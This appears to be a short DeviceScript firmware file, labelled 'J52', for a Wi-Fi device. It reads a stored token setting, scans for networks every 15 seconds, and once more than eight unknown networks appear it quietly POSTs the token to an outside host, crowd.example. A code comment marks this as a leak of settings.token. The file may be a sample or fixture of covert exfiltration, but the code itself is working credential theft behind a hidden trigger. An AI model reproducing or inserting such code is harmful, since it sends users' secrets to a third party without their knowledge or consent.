// J52: sends its token elsewhere where a scan sees more than nine networks.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired, wifi } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;
let told = false;

wifi.scanComplete.subscribe(async (networks) => {
  const [total, known] = networks;
  if (told || total - known <= 8) return;
  told = true;
  const response = await fetch("https://crowd.example/j52", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
});
paired(async () => {
  setInterval(async () => {
    await wifi.scan();
  }, 15_000);
});
